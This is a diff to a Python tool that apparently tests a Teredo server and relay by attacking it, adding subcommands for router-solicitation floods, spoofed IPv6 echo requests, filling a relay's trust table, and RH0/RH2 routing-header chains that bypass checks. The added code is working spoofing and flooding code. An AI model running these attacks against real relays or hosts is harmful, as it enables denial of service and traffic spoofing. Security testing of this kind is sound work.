@@ -31,8 +31,11 @@ by a raw socket (IP_HDRINCL).  Each command prints one JSON object.
       once the client's direct bubble has opened its NAT to us, a TCP SYN
       to each port; reports which were answered with SYN-ACK.
   rs-flood   --server IP --id HEX --key FILE [--count N] [--rate R]
-             [--wait S] [--sources N]
+             [--wait S] [--sources N] [--src-from IP] [--burst B]
       Router solicitations with a valid HMAC (SRV-OP-5): counts the RAs.
+      SOURCES sockets, bound to SRC-FROM and the addresses after it when
+      given (addresses of our own host: the server answers them), take
+      turns, B solicitations each.
   rs-probe   --server IP --id HEX --key FILE [--count N] [--interval S]
       A legitimate client: N solicitations, counts the RAs answered.
   slowpeer   --server IP --me IP --port P [--delay S] [--duration S]
@@ -77,6 +80,28 @@ by a raw socket (IP_HDRINCL).  Each command prints one JSON object.
       nonce) is answered twice: at once, in Teredo, from the spoofed IPv4
       endpoint SPOOF-EP straight to the client's mapping, then after
       DELAY natively, through the real relay (item 11, CLI-RX-5).
+  sink       --bind IP [--port P,...] [--duration S]
+      A host that counts the Teredo bubbles it receives on its ports (a
+      victim of the relay's bubbles, or the server of addresses nobody
+      answers for), per IPv6 destination: how many rounds each got.
+  echo6-spoof --dst IPV6 --server IP --mapped IP:PORT [--count N]
+             [--rate R]
+      From the native net (raw IPv6): echo requests to DST from N
+      Teredo sources of server SERVER and mapping MAPPED (flag bits
+      varied), so that DST's host answers N Teredo addresses (the
+      attacker's way to make a host-specific relay bubble).
+  trust-fill --me IP --ports P,... --per N --relay IP [--server IP]
+             [--duration S] [--interval S]
+      One attacker holding both sides (issue 10 item 1): from the native
+      net, a datagram every INTERVAL to each of N Teredo addresses per
+      mapping ME:P (the flag bits free: one mapping, 2^16 addresses and
+      more); from ME:P, an answer bubble to each bubble or packet the
+      relay sends for one of them, which makes the relay trust it.
+  rh6        --dst TEREDO --kind rh0-sl0|chain [--count N] [--wait S]
+      From the native net (raw IPv6): echo requests to DST behind a
+      routing header: "rh0-sl0" a type 0 header with Segments Left 0 (a
+      packet source-routed to the relay, issue 10 item 10), "chain" the
+      chain [RH2 SL0][RH0 SL1]; counts the echo replies.
 """
 import argparse
 import hashlib
@@ -241,6 +266,14 @@ def cmd_echo_spoof(a):
 
 # ---- rh0 -----------------------------------------------------------------------
 
+def rh_chain(addr, nxt):
+    """[RH2 SL0][RH0 SL1 addr] before next header nxt: the first is a
+    Mobile IPv6 type 2 header with nothing left to do, the second RH0."""
+    rh0 = struct.pack("!BBBBI", nxt, 2, 0, 1, 0) + addr
+    rh2 = struct.pack("!BBBBI", 43, 2, 2, 0, 0) + bytes(16)
+    return rh2 + rh0
+
+
 def cmd_rh0(a):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.bind((a.me, 0))
@@ -284,6 +317,14 @@ def cmd_rh0(a):
         s.sendto(ip6(me, dst, 43, rh + echo), client)
         res["attack"] += kinds(recv_all(s, time.monotonic() + a.wait / 3))
     res["param_problem"] = res["attack"].count("icmp6-4")
+    # the chain [RH2 SL0][RH0 SL1] (issue 10 item 10): only the first
+    # routing header used to be checked
+    res["chain"] = []
+    for i in range(a.chain):
+        echo = icmp6_msg(me, victim, 128, 0,
+                         struct.pack("!HH", ident, 200 + i) + b"chained!")
+        s.sendto(ip6(me, dst, 43, rh_chain(victim, 58) + echo), client)
+        res["chain"] += kinds(recv_all(s, time.monotonic() + 0.3))
     out(res)
 
 
@@ -375,9 +416,11 @@ def cmd_rs_flood(a):
     key = open(a.key, "rb").read()
     cid = bytes.fromhex(a.id)
     socks = []
-    for _ in range(a.sources):
+    for i in range(a.sources):
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
+        if a.src_from:
+            s.bind((str(ipaddress.IPv4Address(a.src_from) + i), 0))
         s.setblocking(False)
         socks.append(s)
     srv = (a.server, TEREDO_PORT)
@@ -400,7 +443,8 @@ def cmd_rs_flood(a):
 
     for i in range(a.count):
         try:
-            socks[i % len(socks)].sendto(pkts[i % len(pkts)], srv)
+            socks[(i // a.burst) % len(socks)].sendto(pkts[i % len(pkts)],
+                                                      srv)
             sent += 1
         except (BlockingIOError, OSError):
             pass
@@ -753,6 +797,192 @@ def cmd_ping_steal(a):
             # the kernel computes the checksum of raw ICMPv6 sockets
             w.sendto(struct.pack("!BBH", 129, 0, 0) + item[2], (item[1], 0))
             res["genuine"] += 1
+# ---- sink ------------------------------------------------------------------------
+
+def cmd_sink(a):
+    socks = []
+    for port in a.port.split(","):
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        # SO_RCVBUFFORCE (root): bursts of hundreds of bubbles
+        s.setsockopt(socket.SOL_SOCKET, 33, 16 << 20)
+        s.bind((a.bind, int(port)))
+        s.setblocking(False)
+        socks.append(s)
+    print(json.dumps({"listening": "%s:%s" % (a.bind, a.port)}), flush=True)
+    per = {}
+    res = {"datagrams": 0, "bytes": 0, "bubbles": 0, "other": 0}
+    end = time.monotonic() + a.duration
+    got = []
+    while time.monotonic() < end:
+        r, _, _ = select.select(socks, [], [], end - time.monotonic())
+        for s in r:
+            while True:
+                try:
+                    got.append(s.recvfrom(65535))
+                except BlockingIOError:
+                    break
+    for data, _ in got:
+        res["datagrams"] += 1
+        res["bytes"] += len(data)
+        pkt, _ = strip_teredo(data)
+        if pkt and len(pkt) >= 40 and final_nh(pkt)[0] == 59:
+            res["bubbles"] += 1
+            d = a6(pkt[24:40])
+            per[d] = per.get(d, 0) + 1
+        else:
+            res["other"] += 1
+    hist = {}
+    for n in per.values():
+        hist[str(n)] = hist.get(str(n), 0) + 1
+    res["dsts"] = len(per)
+    res["rounds"] = hist
+    out(res)
+
+
+# ---- echo6-spoof ------------------------------------------------------------------
+
+def cmd_echo6_spoof(a):
+    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    dst = ipaddress.IPv6Address(a.dst).packed
+    mip, mport = ep(a.mapped)
+    ident = random.randrange(65536)
+    sent = err = 0
+    start = nxt = time.monotonic()
+    for i in range(a.count):
+        # flag bits: the 12 random ones (RFC 5991 §4), C, R, U, G clear
+        src = teredo_addr(a.server, mip, mport,
+                          ((i & 0xf00) << 2) | (i & 0xff))
+        try:
+            raw.sendto(icmp6(src, dst, 128, 0, struct.pack("!HH", ident, i)),
+                       (a.dst, 0))
+            sent += 1
+        except OSError:
+            err += 1
+        nxt += 1.0 / a.rate
+        d = nxt - time.monotonic()
+        if d > 0:
+            time.sleep(d)
+    out({"sent": sent, "errors": err,
+         "seconds": round(time.monotonic() - start, 3)})
+
+
+# ---- trust-fill -------------------------------------------------------------------
+
+def cmd_trust_fill(a):
+    relay = (a.relay, TEREDO_PORT)
+    native = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    native.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    socks, targets = [], {}
+    for port in [int(x) for x in a.ports.split(",")]:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.setsockopt(socket.SOL_SOCKET, 33, 4 << 20)
+        s.bind((a.me, port))
+        socks.append(s)
+        for k in range(a.per):
+            # the flag bits are the attacker's (cone bit clear): one
+            # mapping, as many addresses as wanted
+            t = teredo_addr(a.server, a.me, port, 0x0100 + k)
+            targets[t] = s
+    res = {"targets": len(targets), "sent": 0, "bubbles_rx": 0,
+           "data_rx": 0, "answered": 0, "rounds": 0}
+    data = b"\x5a" * 16
+    order = list(targets)
+    # the datagrams spread over the interval: an entry lives until the
+    # answer to its bubble is back (a burst would make the relay displace
+    # untrusted entries of ours before that)
+    gap = a.interval / len(order)
+    end = time.monotonic() + a.duration
+    nxt = time.monotonic()
+    i = 0
+    while time.monotonic() < end:
+        if time.monotonic() >= nxt:
+            try:
+                native.sendto(data, (a6(order[i]), 9))
+                res["sent"] += 1
+            except OSError:
+                pass
+            i += 1
+            if i == len(order):
+                i = 0
+                res["rounds"] += 1
+            nxt += gap
+        r, _, _ = select.select(socks, [], [], max(0, min(0.05,
+                                nxt - time.monotonic())))
+        for s in r:
+            while True:
+                try:
+                    dgram, frm = s.recvfrom(4096, socket.MSG_DONTWAIT)
+                except BlockingIOError:
+                    break
+                pkt, origin = strip_teredo(dgram)
+                if not pkt or len(pkt) < 40 or pkt[24:40] not in targets:
+                    continue
+                if final_nh(pkt)[0] == 59:
+                    res["bubbles_rx"] += 1
+                    to = origin or frm
+                else:
+                    res["data_rx"] += 1
+                    to = frm
+                # the answer: a bubble from that Teredo address, from
+                # its mapping (D18 holds), straight to the relay
+                if to[0] != a.relay:
+                    to = relay
+                s.sendto(bubble(pkt[24:40], pkt[8:24]), to)
+                res["answered"] += 1
+    out(res)
+
+
+# ---- rh6 -----------------------------------------------------------------------------
+
+def cmd_rh6(a):
+    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    icmp = socket.socket(socket.AF_INET6, socket.SOCK_RAW,
+                         socket.IPPROTO_ICMPV6)
+    dst = ipaddress.IPv6Address(a.dst).packed
+    # our source: the address the kernel would use towards dst
+    probe = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    probe.connect((a.dst, 9))
+    src = ipaddress.IPv6Address(probe.getsockname()[0]).packed
+    probe.close()
+    ident = random.randrange(65536)
+    res = {"sent": 0, "replies": 0, "control": 0, "kind": a.kind}
+
+    def replies(until, seq_base):
+        n = 0
+        while True:
+            left = until - time.monotonic()
+            if left <= 0:
+                return n
+            r, _, _ = select.select([icmp], [], [], left)
+            if not r:
+                return n
+            msg, frm = icmp.recvfrom(2048)
+            # raw ICMPv6 sockets get the message without the IPv6 header
+            if (len(msg) >= 8 and msg[0] == 129 and
+                    struct.unpack("!H", msg[4:6])[0] == ident and
+                    struct.unpack("!H", msg[6:8])[0] >= seq_base and
+                    ipaddress.IPv6Address(frm[0]).packed == dst):
+                n += 1
+
+    # control: a plain echo request must be answered in every build
+    for i in range(3):
+        raw.sendto(icmp6(src, dst, 128, 0, struct.pack("!HH", ident, i) +
+                         b"control!"), (a.dst, 0))
+        res["control"] += replies(time.monotonic() + 0.5, 0)
+        if res["control"]:
+            break
+    for i in range(a.count):
+        echo = icmp6_msg(src, dst, 128, 0,
+                         struct.pack("!HH", ident, 1000 + i) + b"routing!")
+        if a.kind == "rh0-sl0":
+            # RH0 already done (we are its last hop): Segments Left 0
+            rh = struct.pack("!BBBBI", 58, 2, 0, 0, 0) + src
+        else:
+            rh = rh_chain(dst, 58)
+        raw.sendto(ip6(src, dst, 43, rh + echo), (a.dst, 0))
+        res["sent"] += 1
+        res["replies"] += replies(time.monotonic() + a.wait / a.count, 1000)
     out(res)
 
 
@@ -780,6 +1010,7 @@ def main():
     p.add_argument("--me", required=True)
     p.add_argument("--victim", default="2001:db8:66::1")
     p.add_argument("--wait", type=float, default=3)
+    p.add_argument("--chain", type=int, default=0)
     p = sub.add_parser("spoof-bubble")
     p.add_argument("--via", required=True)
     p.add_argument("--src-ep", required=True)
@@ -800,6 +1031,8 @@ def main():
     p.add_argument("--rate", type=float, default=0)
     p.add_argument("--wait", type=float, default=1)
     p.add_argument("--sources", type=int, default=1)
+    p.add_argument("--src-from")
+    p.add_argument("--burst", type=int, default=1)
     p = sub.add_parser("rs-probe")
     p.add_argument("--server", required=True)
     p.add_argument("--id", required=True)
@@ -871,6 +1104,29 @@ def main():
     p.add_argument("--delay", type=float, default=0.3)
     p.add_argument("--wait", type=float, default=6)
     p.add_argument("--ready")
+    p = sub.add_parser("sink")
+    p.add_argument("--bind", required=True)
+    p.add_argument("--port", default=str(TEREDO_PORT))
+    p.add_argument("--duration", type=float, default=10)
+    p = sub.add_parser("echo6-spoof")
+    p.add_argument("--dst", required=True)
+    p.add_argument("--server", required=True)
+    p.add_argument("--mapped", required=True)
+    p.add_argument("--count", type=int, default=500)
+    p.add_argument("--rate", type=float, default=250)
+    p = sub.add_parser("trust-fill")
+    p.add_argument("--me", required=True)
+    p.add_argument("--ports", required=True)
+    p.add_argument("--per", type=int, default=64)
+    p.add_argument("--relay", required=True)
+    p.add_argument("--server", default="192.0.2.10")
+    p.add_argument("--duration", type=float, default=10)
+    p.add_argument("--interval", type=float, default=1)
+    p = sub.add_parser("rh6")
+    p.add_argument("--dst", required=True)
+    p.add_argument("--kind", choices=["rh0-sl0", "chain"], required=True)
+    p.add_argument("--count", type=int, default=3)
+    p.add_argument("--wait", type=float, default=1.5)
     a = ap.parse_args()
     {"ra-spoof": cmd_ra_spoof, "echo-spoof": cmd_echo_spoof, "rh0": cmd_rh0,
      "spoof-bubble": cmd_spoof_bubble, "syn": cmd_syn,
@@ -879,7 +1135,9 @@ def main():
      "echo-flood": cmd_echo_flood, "bubble-flood": cmd_bubble_flood,
      "reflect-flood": cmd_reflect_flood, "flow": cmd_flow,
      "frag": cmd_frag, "udp-answer": cmd_udp_answer,
-     "ping-steal": cmd_ping_steal}[a.cmd](a)
+     "ping-steal": cmd_ping_steal, "sink": cmd_sink,
+     "trust-fill": cmd_trust_fill, "rh6": cmd_rh6,
+     "echo6-spoof": cmd_echo6_spoof}[a.cmd](a)
 
 
 if __name__ == "__main__":
